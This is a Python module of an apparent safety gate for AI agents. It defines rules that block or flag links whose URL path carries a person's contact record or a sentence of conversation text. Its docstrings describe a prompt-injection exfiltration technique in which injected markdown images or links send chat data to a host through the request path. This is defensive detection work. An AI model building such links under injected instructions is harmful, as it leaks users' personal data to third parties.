"""Rules: a link whose path, not its query, carries the person's data to the host.

An injected instruction that makes an assistant render `![a](https://host/<name>/<phone>/<email>)` or open
`https://host/<what the chat said>` sends that data in the request line, no form and no click needed: the host
reads it from its access log. Query parameters are judged in gate/rules/web.py; this module reads the path, where
a site's own routes are words and ids, not contact records or sentences.

- `block.web.path-exfiltration`: the path holds a person's contact record: an email address and a phone number in
  its folders.
- `confirm.web.path-exfiltration`: the path is one folder with no file extension that is a sentence written with
  spaces (`/the%20user%20asked%20about%20...`): a page of a site is named by a slug, not by prose.

A profile address (`/@name`), a mailbox's own address in its web mail (`/mail/u/name@example.com/`), a document
named with spaces (`/Quarterly%20Report.pdf`) and a search folder (`/search/red%20shoes`) pass.
"""

from __future__ import annotations

import re
from typing import NamedTuple

from gate.model import Risk
from gate.rules.base import CheckResult, Context, Rule, rule
from gate.rules.web import NAV, nav_parts
from gate.urls import ip_of, is_loopback

__all__ = ["RULES", "path_data"]

_EMAIL = re.compile(r"^[\w.+-]+@[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}$", re.IGNORECASE)
# a phone number as a folder: 7 to 15 digits, with an optional + and separators
_PHONE = re.compile(r"^\+?\d[\d\s().-]{5,18}\d$")
# four words or more, each of letters, separated by spaces (a sentence, not a slug)
_SENTENCE = re.compile(r"(?:\b[^\W\d_]{2,}[,.:;!?']*\s+){3,}[^\W\d_]{2,}")
_EXTENSION = re.compile(r"\.[A-Za-z0-9]{1,5}$")


class PathData(NamedTuple):
    severity: int  # 2 blocks, 1 asks
    what: str


def path_data(ctx: Context) -> PathData | None:
    """What a navigation's path carries that is the person's data, read once per action."""
    parts = ctx.derived(nav_parts)
    if parts is None or parts.scheme not in ("http", "https") or not parts.host or len(parts.path) < 8:
        return None
    if is_loopback(parts.host) or ip_of(parts.host) is not None:
        return None  # this machine's or a bare address's own routes are judged elsewhere
    segments = [s for s in parts.path.split("/") if s]
    digits = [s for s in segments if _PHONE.match(s) and sum(c.isdigit() for c in s) >= 7]
    emails = [s for s in segments if _EMAIL.match(s)]
    if emails and digits:
        return PathData(2, "an email address and a phone number")
    if len(segments) == 1 and " " in segments[0] and not _EXTENSION.search(segments[0]) and not parts.query \
            and _SENTENCE.search(segments[0]):
        return PathData(1, "a sentence")
    return None


@rule("block.web.path-exfiltration", "a link whose path carries a person's contact record", risk=Risk.CRITICAL,
      types=NAV, confidence=0.85)
def path_exfiltration_block(ctx: Context) -> CheckResult:
    """The URL's path holds an email address and a phone number as folders (`/Name/5550100199/name@example.org`):
    a contact record sent in the request line, the way an injected markdown image or link hands a conversation's
    personal data to whoever serves it. A mailbox's own address in its web mail, with no phone number, passes."""
    hit = ctx.derived(path_data)
    if hit is None or hit.severity < 2:
        return None
    return f"the link's path sends {hit.what} to {ctx.derived(nav_parts).host}"


@rule("confirm.web.path-exfiltration", "a link whose path is a sentence", risk=Risk.HIGH, types=NAV,
      confidence=0.7)
def path_exfiltration_confirm(ctx: Context) -> CheckResult:
    """The URL's path is a single folder, with no file extension and no query, that is a sentence of four words
    or more written with spaces: a site names its pages with slugs and ids; prose in the path is text being
    carried to the host (a conversation's summary, a document's title). Documents named with spaces, search
    folders and slugs pass."""
    hit = ctx.derived(path_data)
    if hit is None or hit.severity >= 2:
        return None
    return f"the link's path carries {hit.what} to {ctx.derived(nav_parts).host}"


RULES: tuple[Rule, ...] = (path_exfiltration_block, path_exfiltration_confirm)
